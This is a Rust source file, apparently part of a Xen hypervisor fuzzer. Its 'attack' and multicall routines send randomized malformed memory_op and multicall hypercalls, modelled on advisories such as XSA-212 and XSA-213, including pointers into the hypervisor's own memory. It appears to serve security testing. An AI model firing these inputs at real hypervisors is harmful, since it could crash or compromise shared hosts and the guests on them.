//! `memory_op` with lists and numbers that do not fit.
//!
//! XSA-212: `memory_exchange` wrote its results behind a check that did not cover where
//! the list begins, so a guest wrote to any address. XSA-29 was the same call before it.
//! XSA-385: more frames than the domain may have. XSA-213: a multicall that returns
//! to another mode than it came from, with an `iret` or a change of root inside.

use blanket_abi::xen::hypercall::{self as nr, memory, mmuext};

use crate::kernel::{Kernel, hypercall, install_handlers};
use crate::rng::Rng;

fn extent_count(rng: &mut Rng) -> u64 {
    match rng.below(5) {
        0 => rng.below(4),
        1 => 1 << rng.below(64),
        2 => u64::MAX - rng.below(64),
        3 => rng.next() >> rng.below(64),
        _ => rng.below(600),
    }
}

/// `struct xen_memory_reservation`: list, count, order and flags, domain.
fn reservation(k: &Kernel, rng: &mut Rng, to: &mut [u64]) {
    to[0] = match rng.below(4) {
        0 => rng.address(k),
        // The hypervisor's own memory, as XSA-212 had it written.
        1 => 0xffff_8080_0000_0000 + (rng.next() & 0x3fff_ffff),
        2 => 0u64.wrapping_sub(rng.below(1 << 40)) & !7,
        _ => k.scratch(42),
    };
    to[1] = extent_count(rng);
    to[2] = rng.pick(&[0, 1, 9, 18, 31, 63, 64, 255]) | rng.below(4) << 32;
    to[3] = rng.pick(&[0x7ff0, 0, 1, 0x7ff2]);
}

pub fn attack(k: &Kernel, rng: &mut Rng) {
    for _ in 0..10 {
        if rng.once_in(3) {
            multicall(k, rng);
            continue;
        }
        // `struct xen_memory_exchange`: two reservations and how many were exchanged.
        let mut words = [0; 9];
        reservation(k, rng, &mut words[..4]);
        reservation(k, rng, &mut words[4..8]);
        words[8] = extent_count(rng);
        let args = k.fill(rng, 9, |_, i| words[i as usize]);
        // The number of extents done so far is in the upper bits of the command.
        let start = if rng.once_in(2) { 0 } else { rng.next() << 6 };
        let any = rng.below(32);
        let cmd = rng.pick(&[
            memory::EXCHANGE,
            memory::EXCHANGE,
            memory::INCREASE_RESERVATION,
            memory::POPULATE_PHYSMAP,
            memory::MAXIMUM_RESERVATION,
            memory::CURRENT_RESERVATION,
            memory::MEMORY_MAP,
            memory::MACHPHYS_MAPPING,
            any,
        ]);
        if cmd != memory::DECREASE_RESERVATION {
            hypercall(nr::MEMORY_OP, [cmd | start, args, 0, 0, 0]);
        }
    }
}

/// A list with everything in it that changes the mode or the address space.
fn multicall(k: &Kernel, rng: &mut Rng) {
    // Not in the pages of attacks, where the list could come to lie over them.
    let [onto_root, user_root] =
        [mmuext::NEW_BASEPTR, mmuext::NEW_USER_BASEPTR].map(|cmd| [u64::from(cmd), k.root, 0]);
    let (op, user) = (onto_root.as_ptr() as u64, user_root.as_ptr() as u64);
    let calls = 8;
    let list = k.fill(rng, calls * 8, |rng, i| {
        let (number, args) = match i / 8 {
            0 => (nr::MMUEXT_OP, [op, 1, 0, 0x7ff0]),
            1 => (nr::MMUEXT_OP, [user, 1, 0, 0x7ff0]),
            2 => (nr::IRET, [0; 4]),
            3 => (nr::MULTICALL, [k.scratch(45), 4, 0, 0]),
            4 => (nr::STACK_SWITCH, [0xe02b, 0xffff_8080_0000_0000, 0, 0]),
            5 => (nr::SET_SEGMENT_BASE, [1, 0x8000_0000_0000_0000, 0, 0]),
            6 => (nr::UPDATE_VA_MAPPING, [k.scratch(44), 0, 2, 0]),
            _ => (nr::FPU_TASKSWITCH, [1, 0, 0, 0]),
        };
        match i % 8 {
            0 => number,
            n @ 2..6 => args[n as usize - 2],
            _ => rng.next(),
        }
    });
    hypercall(nr::MULTICALL, [list, calls, 0, 0, 0]);
    // The page with the list may be gone now.
    crate::tables::restore_scratch(k);
    install_handlers(k);
}
